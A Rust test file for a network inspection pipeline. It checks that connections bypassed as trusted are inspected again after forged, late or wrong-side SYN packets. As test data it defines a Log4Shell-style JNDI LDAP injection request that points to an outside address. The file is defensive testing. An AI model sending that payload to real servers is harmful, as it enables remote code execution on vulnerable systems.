//! A SYN among the ends of a connection that passes unseen: what it opens is inspected, and if it opens nothing, because
//! it was forged or late, the connection goes on, inspected from there.

use std::sync::{Arc, OnceLock};

use dataplane::decode::{LinkType, TcpFlags};
use dataplane::pipeline::{Pipeline, RxMeta, Side};
use dataplane::policy::{Bypass, Exception, Exceptions, IpNetwork, Settings, Trusted};
use dataplane::verdict::{DropReason, Verdict};
use dlp_patterns::{Direction, RuleSet, default_packs};
use engine::sample::frame::{self, Tcp};
use engine::sample::{Connection, Ends};

use Direction::{ToClient, ToServer};

const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
const ATTACK: &[u8] = b"GET /?q=${jndi:ldap://203.0.113.7/a} HTTP/1.1\r\nHost: a\r\n\r\n";

fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    let compile = || Arc::new(RuleSet::compile(&default_packs()).expect("the default packs compile"));
    Arc::clone(RULES.get_or_init(compile))
}

fn ends() -> Ends {
    let address = |text: &str| text.parse().expect("it is an address");
    Ends::new(address("10.0.0.1:40000"), address("192.0.2.1:873"), &[])
}

/// A connection that passes unseen, and the pipeline that it crosses.
struct Bench {
    pipeline: Pipeline,
    connection: Connection,
    now_ns: u64,
}

impl Bench {
    fn bypassed(wrong_side: Exception) -> Bench {
        let network = IpNetwork::new([192, 0, 2, 1].into(), 32).expect("it is an address");
        let trusted = Trusted { network, port: None, protocol: 6, after_bytes: 400 };
        let bypass = Bypass { encrypted: false, trusted: vec![trusted] };
        let mut exceptions = Exceptions::default();
        exceptions.set(DropReason::WrongSide, wrong_side);
        let settings = Settings { flows_max: 1024, bypass, exceptions, ..Settings::default() };
        let connection = Connection::new(ends(), [1000, 50_000]);
        let mut bench = Bench { pipeline: Pipeline::new(settings, rules()), connection, now_ns: 0 };
        let handshake = bench.connection.handshake();
        for (frame, from) in handshake.iter().zip([ToServer, ToClient, ToServer]) {
            assert_eq!(bench.judge(from, frame), Verdict::Forward);
        }
        for from in [ToServer, ToClient] {
            assert_eq!(bench.send(from, &[b'x'; 100]), Verdict::Forward);
        }
        assert_eq!(bench.send(ToServer, ATTACK), Verdict::Forward, "it is trusted");
        assert_eq!(bench.pipeline.counters().bypassed, 1);
        bench
    }

    fn judge(&mut self, from: Direction, frame: &[u8]) -> Verdict {
        let side = if from == ToServer { Side::Inside } else { Side::Outside };
        self.judge_at(side, frame)
    }

    fn judge_at(&mut self, side: Side, frame: &[u8]) -> Verdict {
        self.now_ns += 1000;
        let (now_ns, wire_bytes) = (self.now_ns, frame.len() as u32);
        let meta = RxMeta { now_ns, link: 0, link_type: LinkType::Ethernet, side: Some(side), wire_bytes };
        self.pipeline.process(&mut frame.to_vec(), meta, &mut ())
    }

    /// The next data, or the next acknowledgment, of the connection.
    fn send(&mut self, from: Direction, payload: &[u8]) -> Verdict {
        let frame = self.connection.segment(from, DATA, payload);
        self.judge(from, &frame)
    }

    fn repeats(&mut self, from: Direction, payload: &[u8]) -> Verdict {
        let sequence = self.connection.sequence(from).wrapping_sub(payload.len() as u32);
        let acknowledgment = self.connection.sequence(from.opposite());
        let frame = ends().frame(from, Tcp { sequence, acknowledgment, flags: DATA }, payload);
        self.judge(from, &frame)
    }
}

fn syn(sequence: u32) -> Vec<u8> {
    ends().frame(ToServer, Tcp { sequence, acknowledgment: 0, flags: TcpFlags::SYN }, b"")
}

#[test]
fn a_connection_outlives_a_forged_syn_and_is_inspected_from_there() {
    let mut bench = Bench::bypassed(Exception::DropPacket);
    assert_eq!(bench.judge(ToServer, &syn(7_000_000)), Verdict::Forward);
    assert_eq!(bench.send(ToServer, b"harmless"), Verdict::Drop(DropReason::OutOfWindow), "not yet known");
    // The challenge does not acknowledge what was dropped.
    let acknowledgment = bench.connection.sequence(ToServer).wrapping_sub(8);
    let challenge =
        Tcp { sequence: bench.connection.sequence(ToClient), acknowledgment, flags: TcpFlags::ACK };
    assert_eq!(bench.judge(ToClient, &ends().frame(ToClient, challenge, b"")), Verdict::Forward);
    assert_eq!(bench.repeats(ToServer, b"harmless"), Verdict::Forward);
    assert_eq!(bench.send(ToClient, b"harmless"), Verdict::Forward);
    assert_eq!(bench.send(ToServer, ATTACK), Verdict::Reset(DropReason::Rule));
}

#[test]
fn what_a_syn_opens_is_inspected() {
    let mut bench = Bench::bypassed(Exception::DropPacket);
    bench.connection = Connection::new(ends(), [7_000_000, 9_000_000]);
    let handshake = bench.connection.handshake();
    for (frame, from) in handshake.iter().zip([ToServer, ToClient, ToServer]) {
        assert_eq!(bench.judge(from, frame), Verdict::Forward);
    }
    assert_eq!(bench.send(ToServer, ATTACK), Verdict::Reset(DropReason::Rule));
}

#[test]
fn a_late_challenge_does_not_keep_a_new_connection_from_opening() {
    let mut bench = Bench::bypassed(Exception::DropPacket);
    let late = bench.connection.segment(ToClient, TcpFlags::ACK, b"");
    bench.connection = Connection::new(ends(), [7_000_000, 9_000_000]);
    let handshake = bench.connection.handshake();
    assert_eq!(bench.judge(ToServer, &handshake[0]), Verdict::Forward);
    assert_eq!(bench.judge(ToClient, &late), Verdict::Forward);
    assert_eq!(bench.judge(ToClient, &handshake[1]), Verdict::Forward);
    assert_eq!(bench.judge(ToServer, &handshake[2]), Verdict::Forward);
    assert_eq!(bench.send(ToServer, b"harmless"), Verdict::Forward);
    // Its begin was seen: it comes to be trusted as any other.
    assert_eq!(bench.send(ToClient, &[b'x'; 300]), Verdict::Forward);
    assert_eq!(bench.send(ToServer, b"harmless"), Verdict::Forward);
    assert_eq!(bench.pipeline.counters().bypassed, 2);
}

#[test]
fn a_syn_from_the_wrong_side_ends_what_passes_unseen_where_the_operator_lets_it_pass() {
    for (wrong_side, verdict, last) in [
        (Exception::DropPacket, Verdict::Drop(DropReason::WrongSide), Verdict::Forward),
        (Exception::Ignore, Verdict::Forward, Verdict::Reset(DropReason::Rule)),
    ] {
        let mut bench = Bench::bypassed(wrong_side);
        assert_eq!(bench.judge_at(Side::Outside, &syn(7_000_000)), verdict);
        let answer = Tcp { sequence: 1, acknowledgment: 7_000_001, flags: TcpFlags::SYN | TcpFlags::ACK };
        let data = Tcp { sequence: 7_000_001, acknowledgment: 2, flags: DATA };
        if wrong_side == Exception::Ignore {
            assert_eq!(bench.judge_at(Side::Inside, &ends().frame(ToClient, answer, b"")), Verdict::Forward);
            assert_eq!(bench.judge_at(Side::Outside, &ends().frame(ToServer, data, ATTACK)), last);
        } else {
            assert_eq!(bench.send(ToServer, ATTACK), last, "it still passes unseen");
        }
    }
}

/// Who forges what a trusted server says forges what it is asked as well, and both from one side.
#[test]
fn nobody_is_trusted_for_an_answer_of_his_own() {
    let network = IpNetwork::new([192, 0, 2, 1].into(), 32).expect("it is an address");
    let trusted = Trusted { network, port: None, protocol: 17, after_bytes: 1 };
    let bypass = Bypass { encrypted: false, trusted: vec![trusted] };
    for (sides, bypassed) in [([Side::Outside; 2], 0), ([Side::Inside, Side::Outside], 1)] {
        let settings = Settings { flows_max: 1024, bypass: bypass.clone(), ..Settings::default() };
        let mut pipeline = Pipeline::new(settings, rules());
        let [client, server] =
            ["10.0.0.1:4000", "192.0.2.1:5000"].map(|end| end.parse().expect("an address"));
        for (side, ends) in [(sides[0], [client, server]), (sides[1], [server, client])].repeat(2) {
            let mut frame = frame::udp(ends, &[], b"harmless");
            let (wire_bytes, link_type) = (frame.len() as u32, LinkType::Ethernet);
            let meta = RxMeta { now_ns: 1000, link: 0, link_type, side: Some(side), wire_bytes };
            assert_eq!(pipeline.process(&mut frame, meta, &mut ()), Verdict::Forward);
        }
        assert_eq!(pipeline.counters().flows_bypassed.iter().sum::<u64>(), bypassed, "{sides:?}");
    }
}
